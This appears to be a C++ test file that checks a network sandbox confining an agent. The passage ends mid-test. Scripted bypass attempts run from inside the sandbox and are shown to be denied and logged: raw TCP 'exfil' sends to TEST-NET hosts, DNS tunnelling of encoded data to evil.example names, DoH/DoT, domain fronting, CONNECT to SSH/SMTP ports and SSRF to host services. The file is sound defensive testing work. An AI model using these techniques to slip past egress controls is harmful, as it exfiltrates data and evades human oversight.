// SPDX-License-Identifier: Apache-2.0
//
// The bypass conformance suite: the attacks of DESIGN §1, each run as the
// agent from inside a real sandbox (gvmctl launch, sandbox mode), each
// proved to FAIL by what the agent saw and, where the kernel path lets the
// worker see it, proved RECORDED as a deny in the audit log. There is no
// internet here: destinations are TEST-NET addresses and well-known public
// resolvers, which must never be reached; an answer that arrives anyway is
// proved to be the worker's by its audit record.
//
// One gvmd serves the whole file (a function-local static, stopped cleanly
// at exit). Each attack runs in its own sandbox, so its records are found
// by the sandbox id the agent prints first ($GVM_SANDBOX). The attack
// scripts are python3 (sockets, struct-built DNS queries) and sh (curl,
// ip, nft, unshare); they print `key=value` lines that the cases assert.
#include <catch2/catch.hpp>

#include <arpa/inet.h>
#include <cerrno>
#include <csignal>
#include <fstream>
#include <map>
#include <netinet/in.h>
#include <poll.h>
#include <sstream>
#include <sys/socket.h>
#include <sys/stat.h>
#include <unistd.h>

#include <nlohmann/json.hpp>

#include "common/unique_fd.h"
#include "tests/support/process.h"

using namespace gvm;
using namespace gvm::test;
using Json = nlohmann::json;

namespace {

constexpr uid_t kNobody = 65534;
constexpr gid_t kNogroup = 65534;
const char kPython[] = "/usr/bin/python3";
// In a shell() script: runs the python half of the attack.
const std::string kRunPython = std::string(kPython) + " -c \"$0\"";

// Default deny; one name allowed, on 443 only, to contrast with.
const char kDenyPolicy[] = "version: 1\n"
			   "name: bypass\n"
			   "default: deny\n"
			   "dns:\n"
			   "  resolve: policy\n"
			   "  max_name_length: 120\n"
			   "rules:\n"
			   "  - name: allowed-https\n"
			   "    hosts: [allowed.gvm.test]\n"
			   "    ports: [443]\n"
			   "    action: allow\n";

// Everything allowed by policy: what remains is the SSRF guard, which must
// still refuse the host's own addresses and link-local/metadata.
const char kAllowPolicy[] = "version: 1\n"
			    "name: bypass-permissive\n"
			    "default: allow\n";

void writeFile(const std::string &path, const std::string &text)
{
	std::ofstream(path) << text;
	::chmod(path.c_str(), 0644);
}

enum class Caller { Root, Nobody };

struct Agent {
	int status = -1;
	std::string out;
	std::string err;
	std::string sandbox;
	std::map<std::string, std::string> kv; // the `key=value` lines

	std::string operator[](const std::string &key) const
	{
		auto it = kv.find(key);
		return it == kv.end() ? "<missing " + key + ">" : it->second;
	}
};

// The gvmd every case shares: private socket, state and runtime dirs.
// The directory is traversable (0755) so nobody reaches the socket (the
// socket's own mode and group decide) and reads the policy files.
class Gvmd
{
public:
	TempDir dir;
	std::string socket = dir.path() + "/run/gvmd.sock";
	std::string state = dir.path() + "/state";
	std::string denyPolicy = dir.path() + "/deny.yaml";
	std::string allowPolicy = dir.path() + "/allow.yaml";
	gid_t socketGroup = 0;
	Child process;

	Gvmd()
	{
		::chmod(dir.path().c_str(), 0755);
		writeFile(denyPolicy, kDenyPolicy);
		writeFile(allowPolicy, kAllowPolicy);
		process = Child::start({binaryFromEnv("GVM_GVMD"), "--socket", socket, "--state-dir", state, "--runtime-dir",
					dir.path() + "/run", "--log-level", "debug"},
				       {"GVM_WORKER=" + binaryFromEnv("GVM_WORKER")}, dir.path() + "/gvmd.log");
		if (waitFor([&] { return RawClient(socket).connected(); })) {
			struct stat st{};
			if (::stat(socket.c_str(), &st) == 0)
				socketGroup = st.st_gid;
		}
	}

	~Gvmd()
	{
		// A clean stop: gvmd removes its host table and links.
		process.stop(SIGTERM);
	}

	bool ready() { return RawClient(socket).connected(); }

	// Runs argv as the agent of a sandbox under `policy`, as root or as
	// nobody (a member of the socket's group only). The agent's first
	// output line names its sandbox.
	Agent launch(const std::string &policy, const std::vector<std::string> &argv, Caller caller = Caller::Root,
		     std::chrono::milliseconds timeout = std::chrono::seconds(90))
	{
		RunResult r = run(launchArgs(policy, argv, caller), {}, timeout);
		Agent a{r.status, r.out, r.err, {}, {}};
		std::istringstream in(r.out);
		for (std::string line; std::getline(in, line);)
			if (auto eq = line.find('='); eq != std::string::npos && eq > 0)
				a.kv[line.substr(0, eq)] = line.substr(eq + 1);
		a.sandbox = a.kv["sandbox"];
		return a;
	}

	// The same launch, left running, its output going to logFile.
	Child start(const std::string &policy, const std::vector<std::string> &argv, const std::string &logFile)
	{
		return Child::start(launchArgs(policy, argv, Caller::Root), {}, logFile);
	}

	std::vector<Json> audit()
	{
		std::vector<Json> out;
		std::istringstream in(readFile(state + "/audit/audit.jsonl"));
		for (std::string line; std::getline(in, line);)
			if (auto j = Json::parse(line, nullptr, false); !j.is_discarded())
				out.push_back(j);
		return out;
	}

	// The sandbox's records, once one satisfies pred (gvmd syncs within
	// ~100 ms; a record that should exist gets 5 s).
	std::optional<Json> record(const std::string &sandbox, const std::function<bool(const Json &)> &pred,
				   std::chrono::milliseconds timeout = std::chrono::seconds(5))
	{
		std::optional<Json> found;
		waitFor(
			[&] {
				for (const Json &r : audit())
					if (r.value("sandbox", "") == sandbox && pred(r))
						found = r;
				return found.has_value();
			},
			timeout);
		return found;
	}

	// The record of a decision about host:port of the given kind.
	std::optional<Json> record(const std::string &sandbox, const std::string &kind, const std::string &host, int port)
	{
		return record(sandbox, [&](const Json &r) {
			return r.value("kind", "") == kind && r.value("host", "") == host && r.value("port", 0) == port;
		});
	}

	// Every record of the sandbox, as text for INFO.
	std::string dump(const std::string &sandbox)
	{
		std::string s;
		for (const Json &r : audit())
			if (r.value("sandbox", "") == sandbox)
				s += r.dump() + "\n";
		return s;
	}

	std::string log() { return readFile(dir.path() + "/gvmd.log"); }

private:
	std::vector<std::string> launchArgs(const std::string &policy, const std::vector<std::string> &argv,
					    Caller caller)
	{
		std::vector<std::string> args;
		if (caller == Caller::Nobody)
			args = {"/usr/bin/setpriv", "--reuid=" + std::to_string(kNobody),
				"--regid=" + std::to_string(kNogroup), "--groups=" + std::to_string(socketGroup)};
		// A working directory every caller may enter.
		args.insert(args.end(), {"/usr/bin/env", "-C", dir.path(), binaryFromEnv("GVM_GVMCTL"), "--socket", socket,
					 "launch", "--policy", policy, "--", "/bin/sh", "-c",
					 "echo \"sandbox=$GVM_SANDBOX\"; exec \"$@\"", "sh"});
		args.insert(args.end(), argv.begin(), argv.end());
		return args;
	}
};

Gvmd &gvmd()
{
	static Gvmd d;
	INFO(d.log());
	REQUIRE(d.ready());
	REQUIRE(d.socketGroup != 0);
	return d;
}

// Python helpers every attack script starts with. Outcomes are words:
// closed (EOF), reset, refused, timeout, eperm, eacces, error:EXXX, or
// what came back.
const char kPrelude[] = R"PY(
import base64, errno, os, socket, ssl, struct, sys, time
def report(key, value):
    print(f"{key}={value}", flush=True)
def outcome(f):
    try:
        return f()
    except ssl.SSLError as e:
        return "tls-error:" + type(e).__name__
    except TimeoutError:
        return "timeout"
    except ConnectionResetError:
        return "reset"
    except ConnectionRefusedError:
        return "refused"
    except BrokenPipeError:
        return "reset"
    except PermissionError as e:
        return "eperm" if e.errno == errno.EPERM else "eacces"
    except OSError as e:
        return "error:" + errno.errorcode.get(e.errno, str(e.errno))
def tcp(host, port, data, family=socket.AF_INET):
    def f():
        s = socket.socket(family, socket.SOCK_STREAM)
        s.settimeout(3)
        s.connect((host, port))
        s.sendall(data)
        d = s.recv(4096)
        return "closed" if not d else "data:" + d[:200].decode("latin-1").replace("\n", " ")
    return outcome(f)
def dnsq(name, qtype=1, qid=0x4242):
    head = struct.pack(">HHHHHH", qid, 0x0100, 1, 0, 0, 0)
    body = b"".join(bytes([len(l)]) + l.encode() for l in name.split(".")) + b"\0"
    return head + body + struct.pack(">HH", qtype, 1)
def dnsreply(q, d):
    if len(d) < 12 or d[:2] != q[:2]:
        return "not-dns:" + d[:32].hex()
    return "rcode=%d an=%d" % (d[3] & 15, struct.unpack(">H", d[6:8])[0])
def udp(host, port, data, family=socket.AF_INET, parse=None):
    def f():
        s = socket.socket(family, socket.SOCK_DGRAM)
        s.settimeout(2)
        s.sendto(data, (host, port))
        d, src = s.recvfrom(4096)
        return parse(d) if parse else "reply:" + d[:32].hex()
    return outcome(f)
def dns_udp(host, name, qtype=1, port=53):
    q = dnsq(name, qtype)
    return udp(host, port, q, parse=lambda d: dnsreply(q, d))
proxy_host = os.environ["HTTPS_PROXY"].split("//")[1].rsplit(":", 1)[0]
proxy_port = int(os.environ["HTTPS_PROXY"].rsplit(":", 1)[1])
def connect_via_proxy(target):
    def f():
        s = socket.create_connection((proxy_host, proxy_port), timeout=5)
        s.sendall(f"CONNECT {target} HTTP/1.1\r\nHost: {target}\r\n\r\n".encode())
        d = s.recv(4096)
        return "closed" if not d else d.split(b"\r\n")[0].decode("latin-1")
    return outcome(f)
)PY";

// python3 running the prelude, then body.
std::vector<std::string> python(const std::string &body)
{
	return {kPython, "-c", std::string(kPrelude) + body};
}

// `sh -c script` with $H the host end of the veth (also printed as
// hostaddr=), and the python half of the attack (the prelude, then py) as
// $0 for kRunPython.
std::vector<std::string> shell(const std::string &script, const std::string &py = "")
{
	return {"/bin/sh", "-c", "H=${HTTPS_PROXY#http://}; H=${H%:*}; echo \"hostaddr=$H\"\n" + script,
		std::string(kPrelude) + py};
}

// A denied raw TCP connection: the worker accepted it (transparently) and
// then closed or reset it; no byte came back.
bool deniedTcp(const std::string &o)
{
	return o == "closed" || o == "reset" || o == "refused";
}

// A datagram that must not leave: the sandbox's nftables drop it (EPERM
// from the output hook) or nothing answers.
bool dropped(const std::string &o)
{
	return o == "eperm" || o == "timeout";
}

bool denied(const std::optional<Json> &r)
{
	return r && (*r)["action"] == "deny";
}

std::string reasonOf(const std::optional<Json> &r)
{
	return r ? r->value("reason", "") : "";
}

} // namespace

TEST_CASE("raw TCP to an unlisted IP and port is cut and recorded", "[bypass][system]")
{
	Gvmd &d = gvmd();
	Agent a = d.launch(d.denyPolicy, python("report('raw', tcp('192.0.2.10', 4444, b'hello, exfil\\n'))\n"
						"report('raw_silent', tcp('198.51.100.7', 5555, b''))\n"));
	INFO(a.out << a.err);
	REQUIRE(a.status == 0);
	CHECK(deniedTcp(a["raw"]));
	auto rec = d.record(a.sandbox, "tcp", "192.0.2.10", 4444);
	INFO(d.dump(a.sandbox));
	REQUIRE(rec);
	CHECK(denied(rec));
	CHECK((*rec)["bytes_out"] == 0);
	// A client that waits for the server to speak first (SSH, SMTP)
	// learns nothing either: no banner, only a timeout, close or reset.
	CHECK((a["raw_silent"] == "timeout" || deniedTcp(a["raw_silent"])));
}

TEST_CASE("a denied raw TCP connection is a reset, as DESIGN §3 says", "[bypass][system]")
{
	// A refusal the agent can tell from a server that closed politely.
	Gvmd &d = gvmd();
	Agent a = d.launch(d.denyPolicy, python("report('raw', tcp('192.0.2.10', 4444, b'hello\\n'))\n"));
	INFO(a.out << a.err);
	CHECK(a["raw"] == "reset");
}

TEST_CASE("UDP to a public resolver is answered by the worker; other UDP is dropped", "[bypass][system]")
{
	Gvmd &d = gvmd();
	Agent a = d.launch(d.denyPolicy,
			   python("report('dns53', dns_udp('8.8.8.8', 'tunnel.evil.example'))\n"
				  "report('dns5353', dns_udp('8.8.8.8', 'tunnel5353.evil.example', port=5353))\n"
				  "report('udp_other', udp('9.9.9.9', 9999, b'x' * 64))\n"
				  "def tcp_dns():\n"
				  "    q = dnsq('tcp.evil.example')\n"
				  "    s = socket.create_connection(('8.8.4.4', 53), timeout=3)\n"
				  "    s.sendall(struct.pack('>H', len(q)) + q)\n"
				  "    d = s.recv(4096)\n"
				  "    return dnsreply(q, d[2:]) if len(d) > 2 else 'closed'\n"
				  "report('dns_tcp', outcome(tcp_dns))\n"
				  "report('tcp53_http', tcp('192.0.2.10', 53, b'GET / HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n'))\n"));
	INFO(a.out << a.err);
	REQUIRE(a.status == 0);
	INFO(d.dump(a.sandbox));
	// NXDOMAIN: there is no internet, so only the worker can have said it,
	// and its record proves it did.
	CHECK(a["dns53"] == "rcode=3 an=0");
	auto rec = d.record(a.sandbox, "dns", "tunnel.evil.example", 53);
	REQUIRE(rec);
	CHECK(denied(rec));
	CHECK((*rec)["status"] == 3);
	CHECK(a["dns_tcp"] == "rcode=3 an=0");
	auto tcpRec = d.record(a.sandbox, "dns", "tcp.evil.example", 53);
	REQUIRE(tcpRec);
	CHECK(denied(tcpRec));
	// TCP port 53 carries DNS only: another protocol there gets no web
	// server, only the forwarder's view of it.
	CHECK_THAT(a["tcp53_http"], !Catch::Contains("HTTP/"));
	// Not port 53: dropped in the sandbox, never answered, never seen.
	CHECK(dropped(a["dns5353"]));
	CHECK(dropped(a["udp_other"]));
	CHECK_FALSE(d.record(a.sandbox, [](const Json &r) { return r.value("host", "") == "tunnel5353.evil.example"; },
			     std::chrono::milliseconds(300)));
}

TEST_CASE("DNS over TLS and DNS over HTTPS to public resolvers by IP fail and are recorded", "[bypass][system]")
{
	Gvmd &d = gvmd();
	std::string dot = "def dot():\n"
			  "    s = socket.create_connection(('1.1.1.1', 853), timeout=3)\n"
			  "    c = ssl.create_default_context().wrap_socket(s, server_hostname='cloudflare-dns.com')\n"
			  "    issuer = dict(x[0] for x in c.getpeercert()['issuer'])\n"
			  "    report('dot_issuer', issuer.get('commonName', issuer.get('organizationName', '?')))\n"
			  "    q = dnsq('example.com')\n"
			  "    c.sendall(struct.pack('>H', len(q)) + q)\n"
			  "    r = c.recv(4096)\n"
			  "    if not r:\n"
			  "        return 'closed'\n"
			  "    if len(r) > 4 and r[2:4] == q[:2]:\n"
			  "        return 'dns-answer'\n"
			  "    return 'not-dns:' + r[:20].decode('latin-1').replace('\\r\\n', ' ')\n"
			  "report('dot', outcome(dot))\n";
	std::string doh = "doh() { curl -sS --max-time 10 -o /dev/null -w '%{http_code}' "
			  "-H 'content-type: application/dns-message' --data-binary x \"$@\"; echo \" rc=$?\"; }\n"
			  "echo \"doh_ip=$(doh --noproxy '*' -k https://1.1.1.1/dns-query 2>/dev/null)\"\n"
			  "echo \"doh_name=$(doh --noproxy '*' --resolve cloudflare-dns.com:443:1.1.1.1 "
			  "https://cloudflare-dns.com/dns-query 2>/dev/null)\"\n"
			  "echo \"doh_proxy=$(doh https://8.8.8.8/dns-query 2>&1 | tr '\\n' ' ')\"\n";
	Agent a = d.launch(d.denyPolicy, shell(kRunPython + "\n" + doh, dot));
	INFO(a.out << a.err);
	REQUIRE(a.status == 0);
	INFO(d.dump(a.sandbox));

	// DoT: the agent gets no DNS answer. (The handshake may complete: the
	// worker intercepts with the sandbox CA, which the agent trusts.)
	CHECK(a["dot"] != "dns-answer");
	CHECK((a["dot"].rfind("not-dns:", 0) == 0 || a["dot"].rfind("tls-error", 0) == 0 || deniedTcp(a["dot"])));
	auto dotRec = d.record(a.sandbox, [](const Json &r) {
		return r.value("host", "") == "cloudflare-dns.com" && r.value("port", 0) == 853;
	});
	REQUIRE(dotRec);
	CHECK(denied(dotRec));
	CHECK((*dotRec)["bytes_out"] == 0);

	// DoH to the bare IP: no SNI, so raw TCP to 1.1.1.1:443, reset.
	CHECK(a["doh_ip"] == "000 rc=35");
	auto ipRec = d.record(a.sandbox, "tcp", "1.1.1.1", 443);
	REQUIRE(ipRec);
	CHECK(denied(ipRec));
	// DoH with the resolver's name: intercepted, then 403.
	CHECK(a["doh_name"] == "403 rc=0");
	auto nameRec = d.record(a.sandbox, "http", "cloudflare-dns.com", 443);
	REQUIRE(nameRec);
	CHECK(denied(nameRec));
	CHECK((*nameRec)["path"] == "/dns-query");
	CHECK((*nameRec)["status"] == 403);
	// DoH through the explicit proxy: CONNECT refused.
	CHECK_THAT(a["doh_proxy"], Catch::Contains("CONNECT tunnel failed, response 403"));
	auto connectRec = d.record(a.sandbox, "http", "8.8.8.8", 443);
	REQUIRE(connectRec);
	CHECK(denied(connectRec));
	CHECK((*connectRec)["method"] == "CONNECT");
}

TEST_CASE("a bare TLS handshake for a name no rule allows is recorded as a deny", "[bypass][system]")
{
	// The worker intercepts (so that a denied request gets its 403 JSON);
	// an agent that only shakes hands (a DoT probe) and sends nothing is
	// recorded with what the SNI alone decided.
	Gvmd &d = gvmd();
	Agent a = d.launch(d.denyPolicy,
			   python("def hello():\n"
				  "    s = socket.create_connection(('1.1.1.1', 853), timeout=3)\n"
				  "    c = ssl.create_default_context().wrap_socket(s, server_hostname='dot-probe.evil.example')\n"
				  "    c.close()\n"
				  "    return 'handshake-completed'\n"
				  "report('hello', outcome(hello))\n"));
	INFO(a.out << a.err);
	REQUIRE(a.status == 0);
	auto rec = d.record(a.sandbox, [](const Json &r) { return r.value("host", "") == "dot-probe.evil.example"; });
	INFO(d.dump(a.sandbox));
	REQUIRE(rec);
	CHECK(denied(rec));
	CHECK((*rec)["kind"] == "tls");
}

TEST_CASE("QUIC (UDP 443) never leaves", "[bypass][system]")
{
	Gvmd &d = gvmd();
	Agent a = d.launch(d.denyPolicy, python("initial = bytes([0xc3, 0, 0, 0, 1]) + os.urandom(1195)\n"
						"report('quic_testnet', udp('192.0.2.1', 443, initial))\n"
						"report('quic_public', udp('1.1.1.1', 443, initial))\n"
						"report('quic_proxy', udp(proxy_host, 443, initial))\n"));
	INFO(a.out << a.err);
	REQUIRE(a.status == 0);
	CHECK(dropped(a["quic_testnet"]));
	CHECK(dropped(a["quic_public"]));
	CHECK(dropped(a["quic_proxy"]));
}

TEST_CASE("ICMP: no raw sockets, no ping", "[bypass][system]")
{
	Gvmd &d = gvmd();
	Agent a = d.launch(d.denyPolicy,
			   shell(kRunPython + "\n"
					      "if command -v ping >/dev/null; then ping -c1 -W1 192.0.2.1 >/dev/null 2>&1 "
					      "&& echo ping=replied || echo ping=failed; else echo ping=absent; fi\n",
				 "def raw():\n"
				    "    socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)\n"
				    "    return 'opened'\n"
				    "report('raw_icmp', outcome(raw))\n"
				    "def raw_ip():\n"
				    "    socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)\n"
				    "    return 'opened'\n"
				    "report('raw_ip', outcome(raw_ip))\n"
				    "def packet():\n"
				    "    socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0)\n"
				    "    return 'opened'\n"
				    "report('packet', outcome(packet))\n"
				    "def echo(dst):\n"
				    "    def f():\n"
				    "        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP)\n"
				    "        s.settimeout(2)\n"
				    "        s.sendto(b'\\x08\\0\\0\\0\\x12\\x34\\0\\x01gvm-bypass', (dst, 0))\n"
				    "        return 'reply:' + s.recvfrom(100)[0][:8].hex()\n"
				    "    return outcome(f)\n"
				    "report('dgram_icmp', echo('192.0.2.1'))\n"
				    "report('dgram_icmp_host', echo(proxy_host))\n"));
	INFO(a.out << a.err);
	REQUIRE(a.status == 0);
	// The agent has no CAP_NET_RAW, even as root.
	CHECK(a["raw_icmp"] == "eperm");
	CHECK(a["raw_ip"] == "eperm");
	CHECK(a["packet"] == "eperm");
	// Unprivileged ICMP sockets: not permitted (ping_group_range) or
	// dropped; never a reply.
	for (const char *k : {"dgram_icmp", "dgram_icmp_host"}) {
		INFO(k);
		CHECK((a[k] == "eacces" || dropped(a[k])));
	}
	CHECK(a["ping"] != "replied");
}

TEST_CASE("IPv6 is unusable and IPv4-mapped addresses are governed like IPv4", "[bypass][system]")
{
	Gvmd &d = gvmd();
	Agent a = d.launch(
		d.denyPolicy,
		shell(kRunPython + "\n"
				   "echo \"ip6addr=$(ip -6 addr 2>&1 | tr '\\n' ' ')\"\n"
				   "echo \"ip6route=$(ip -6 route 2>&1 | tr '\\n' ' ')\"\n"
				   "echo \"disable_ipv6=$(cat /proc/sys/net/ipv6/conf/all/disable_ipv6)\"\n",
		      "report('v6_tcp', tcp('2001:db8::1', 80, b'GET / HTTP/1.0\\r\\n\\r\\n', socket.AF_INET6))\n"
		      "report('v6_udp', udp('2001:db8::1', 53, dnsq('v6.evil.example'), socket.AF_INET6))\n"
		      "report('v6_mcast', udp('ff02::1%eth0', 5353, b'x', socket.AF_INET6))\n"
		      "report('mapped', tcp('::ffff:192.0.2.10', 4444, b'mapped hello\\n', socket.AF_INET6))\n"));
	INFO(a.out << a.err);
	REQUIRE(a.status == 0);
	INFO(d.dump(a.sandbox));
	// No address, no route: the kernel refuses before anything is sent.
	CHECK(a["v6_tcp"].rfind("error:", 0) == 0);
	CHECK((a["v6_udp"].rfind("error:", 0) == 0 || dropped(a["v6_udp"])));
	CHECK((a["v6_mcast"].rfind("error:", 0) == 0 || dropped(a["v6_mcast"])));
	CHECK(a["ip6addr"] == "");
	CHECK(a["ip6route"] == "");
	CHECK(a["disable_ipv6"] == "1");
	// ::ffff:192.0.2.10 is IPv4 on the wire: redirected, denied, recorded
	// under its IPv4 address.
	if (a["mapped"].rfind("error:", 0) != 0) {
		CHECK(deniedTcp(a["mapped"]));
		auto rec = d.record(a.sandbox, "tcp", "192.0.2.10", 4444);
		REQUIRE(rec);
		CHECK(denied(rec));
	}
}

TEST_CASE("DNS exfiltration: long names and TXT/NULL/ANY for unlisted names are refused and recorded",
	  "[bypass][system]")
{
	Gvmd &d = gvmd();
	Agent a = d.launch(
		d.denyPolicy,
		python("data = base64.b32encode(os.urandom(120)).decode().rstrip('=').lower()\n"
		       "name = '.'.join(data[i:i + 60] for i in range(0, 180, 60)) + '.exfil.example'\n"
		       "report('longname', name)\n"
		       "report('long', dns_udp('8.8.8.8', name))\n"
		       "report('txt', dns_udp(proxy_host, 'secret-data.evil.example', 16))\n"
		       "report('null', dns_udp('1.1.1.1', 'null-data.evil.example', 10))\n"
		       "report('any', dns_udp('1.1.1.1', 'any-data.evil.example', 255))\n"
		       "report('allowed_txt', dns_udp(proxy_host, 'allowed.gvm.test', 16))\n"
		       "report('aaaa', dns_udp(proxy_host, 'allowed.gvm.test', 28))\n"));
	INFO(a.out << a.err);
	REQUIRE(a.status == 0);
	INFO(d.dump(a.sandbox));
	std::string name = a["longname"];
	CHECK(name.size() >= 190);
	CHECK(name.size() <= 210);
	CHECK((a["long"] == "rcode=5 an=0" || a["long"] == "rcode=3 an=0"));
	auto longRec = d.record(a.sandbox, "dns", name, 53);
	REQUIRE(longRec);
	CHECK(denied(longRec));
	CHECK_THAT(reasonOf(longRec), Catch::Contains("exfiltration"));

	struct Typed {
		const char *key, *host, *type;
	};
	for (Typed t : {Typed{"txt", "secret-data.evil.example", "TXT"}, Typed{"null", "null-data.evil.example", "NULL"},
			Typed{"any", "any-data.evil.example", "ANY"}}) {
		INFO(t.key);
		CHECK(a[t.key] == "rcode=5 an=0");
		auto rec = d.record(a.sandbox, "dns", t.host, 53);
		REQUIRE(rec);
		CHECK(denied(rec));
		CHECK_THAT(reasonOf(rec), Catch::Contains("exfiltration"));
		CHECK_THAT(rec->value("method", ""), Catch::Contains(t.type));
	}
	// No IPv6 answers even for an allowed name.
	CHECK(a["aaaa"] == "rcode=0 an=0");
}

TEST_CASE("SNI/Host mismatch (domain fronting) is denied before any upstream", "[bypass][system]")
{
	Gvmd &d = gvmd();
	// Transparent TLS to a TEST-NET address, with the sandbox's own CA
	// bundle (no -k): the worker intercepts, sees the mismatch, 403.
	std::string script =
		"f() { curl -sS --noproxy '*' --max-time 15 -o /tmp/body.$$ -w '%{http_code}' \"$@\"; "
		"echo \" rc=$? $(cat /tmp/body.$$ 2>/dev/null | tr '\\n' ' ')\"; }\n"
		"echo \"front=$(f --resolve allowed.gvm.test:443:192.0.2.20 -H 'Host: denied.gvm.test' "
		"https://allowed.gvm.test/front)\"\n"
		"echo \"reverse=$(f --resolve denied.gvm.test:443:192.0.2.20 -H 'Host: allowed.gvm.test' "
		"https://denied.gvm.test/reverse)\"\n";
	Agent a = d.launch(d.denyPolicy, shell(script));
	INFO(a.out << a.err);
	REQUIRE(a.status == 0);
	INFO(d.dump(a.sandbox));
	CHECK(a["front"].rfind("403 rc=0 ", 0) == 0);
	CHECK_THAT(a["front"], Catch::Contains("denied by policy") && Catch::Contains("does not match"));
	auto rec = d.record(a.sandbox, [](const Json &r) { return r.value("path", "") == "/front"; });
	REQUIRE(rec);
	CHECK(denied(rec));
	CHECK((*rec)["kind"] == "http");
	CHECK((*rec)["host"] == "denied.gvm.test");
	CHECK((*rec)["port"] == 443);
	CHECK((*rec)["status"] == 403);
	CHECK_THAT(reasonOf(rec), Catch::Contains("does not match the TLS server name allowed.gvm.test"));

	// The other way round: a denied SNI carrying an allowed Host.
	CHECK(a["reverse"].rfind("403 rc=0 ", 0) == 0);
	auto rev = d.record(a.sandbox, [](const Json &r) { return r.value("path", "") == "/reverse"; });
	REQUIRE(rev);
	CHECK(denied(rev));
}

TEST_CASE("CONNECT to a port no rule allows is refused", "[bypass][system]")
{
	Gvmd &d = gvmd();
	std::string script = kRunPython + "\n"
					  "echo \"curl_p=$(curl -sS -p -x \"$HTTPS_PROXY\" --max-time 10 "
					  "telnet://allowed.gvm.test:22 </dev/null 2>&1 | tr '\\n' ' ')\"\n";
	Agent a = d.launch(d.denyPolicy, shell(script, "report('smtp', connect_via_proxy('allowed.gvm.test:25'))\n"
						       "report('https', connect_via_proxy('allowed.gvm.test:443'))\n"));
	INFO(a.out << a.err);
	REQUIRE(a.status == 0);
	INFO(d.dump(a.sandbox));
	CHECK(a["smtp"] == "HTTP/1.1 403 Forbidden");
	auto rec = d.record(a.sandbox, "http", "allowed.gvm.test", 25);
	REQUIRE(rec);
	CHECK(denied(rec));
	CHECK((*rec)["method"] == "CONNECT");
	CHECK((*rec)["status"] == 403);
	CHECK_THAT(a["curl_p"], Catch::Contains("CONNECT tunnel failed, response 403"));
	auto ssh = d.record(a.sandbox, "http", "allowed.gvm.test", 22);
	REQUIRE(ssh);
	CHECK(denied(ssh));
	// The allowed port, for contrast.
	CHECK(a["https"] == "HTTP/1.1 200 Connection established");
}

TEST_CASE("host services on the veth address are unreachable", "[bypass][system]")
{
	Gvmd &d = gvmd();
	// A listener in the host namespace on every address, standing in for
	// the host's sshd.
	UniqueFd listener(::socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK | SOCK_CLOEXEC, 0));
	REQUIRE(listener.isValid());
	int one = 1;
	::setsockopt(listener.get(), SOL_SOCKET, SO_REUSEADDR, &one, sizeof(one));
	sockaddr_in addr{};
	addr.sin_family = AF_INET;
	addr.sin_addr.s_addr = htonl(INADDR_ANY);
	REQUIRE(::bind(listener.get(), reinterpret_cast<sockaddr *>(&addr), sizeof(addr)) == 0);
	REQUIRE(::listen(listener.get(), 16) == 0);
	socklen_t len = sizeof(addr);
	REQUIRE(::getsockname(listener.get(), reinterpret_cast<sockaddr *>(&addr), &len) == 0);
	const int port = ntohs(addr.sin_port);
	const std::string p = std::to_string(port);

	std::string script = "echo \"curl=$(curl -sS --noproxy '*' --max-time 10 -o /dev/null -w '%{http_code}' "
			     "http://$H:" + p + "/ 2>&1)\"\n"
			     "echo \"iproute=$(ip route | tr '\\n' ';')\"\n" +
			     kRunPython + " " + p + "\n";
	std::string py = "port = int(sys.argv[1])\n"
			 "report('ssh', tcp(proxy_host, port, b'SSH-2.0-OpenSSH_9.2\\r\\n'))\n"
			 "report('connect', connect_via_proxy(f'{proxy_host}:{port}'))\n";
	Agent a = d.launch(d.denyPolicy, shell(script, py));
	INFO(a.out << a.err);
	REQUIRE(a.status == 0);
	const std::string host = a["hostaddr"];
	INFO(d.dump(a.sandbox));
	CHECK(a["curl"] == "403");
	CHECK(deniedTcp(a["ssh"]));
	CHECK(a["connect"] == "HTTP/1.1 403 Forbidden");
	auto raw = d.record(a.sandbox, "tcp", host, port);
	REQUIRE(raw);
	CHECK(denied(raw));
	// The host end of the veth: one of the host's addresses, and in gvm's
	// sandbox pool (which a worker started ahead of its sandbox knows it
	// by).
	CHECK_THAT(reasonOf(raw), Catch::Contains("host's own addresses") || Catch::Contains("gvm's sandbox pool"));
	for (const char *method : {"GET", "CONNECT"}) {
		INFO(method);
		auto http = d.record(a.sandbox, [&](const Json &r) {
			return r.value("kind", "") == "http" && r.value("host", "") == host && r.value("port", 0) == port &&
			       r.value("method", "") == method;
		});
		REQUIRE(http);
		CHECK(denied(http));
	}

	// Even a policy that allows everything: the SSRF guard names the class.
	Agent b = d.launch(d.allowPolicy,
			   shell("echo \"curl=$(curl -sS --noproxy '*' --max-time 10 -o /dev/null -w '%{http_code}' "
				 "http://$H:" + p + "/open 2>&1)\"\n"));
	INFO(b.out << b.err << d.dump(b.sandbox));
	CHECK(b["curl"] == "403");
	auto guarded = d.record(b.sandbox, [](const Json &r) { return r.value("path", "") == "/open"; });
	REQUIRE(guarded);
	CHECK(denied(guarded));
	CHECK_THAT(reasonOf(guarded), Catch::Contains(b["hostaddr"] + " is one of the host's own addresses") ||
					      Catch::Contains(b["hostaddr"] + " is in gvm's sandbox pool"));

	// Not one connection reached the listener.
	sockaddr_in peer{};
	socklen_t plen = sizeof(peer);
	int accepted = ::accept4(listener.get(), reinterpret_cast<sockaddr *>(&peer), &plen, SOCK_CLOEXEC);
	int acceptErrno = errno;
	if (accepted >= 0)
		::close(accepted);
	CHECK(accepted < 0);
	CHECK(acceptErrno == EAGAIN);

	// Inside: only the veth routes.
	std::string routes = a["iproute"];
	CHECK_THAT(routes, Catch::StartsWith("default via " + host + " dev eth0"));
	CHECK(std::count(routes.begin(), routes.end(), ';') == 2);
	CHECK_THAT(routes, Catch::Contains("/30 dev eth0 proto kernel scope link"));
}

TEST_CASE("nothing on the host opens a connection to the agent, and only DNS answers reach its UDP sockets",
	  "[bypass][system]")
{
	Gvmd &d = gvmd();
	// The agent listens on TCP and UDP on every address, says where, and
	// reports whatever arrives within its window.
	std::string py = "t = socket.socket(); t.bind(('0.0.0.0', 0)); t.listen(8); t.setblocking(False)\n"
			 "u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); u.bind(('0.0.0.0', 0))\n"
			 "u.setblocking(False)\n"
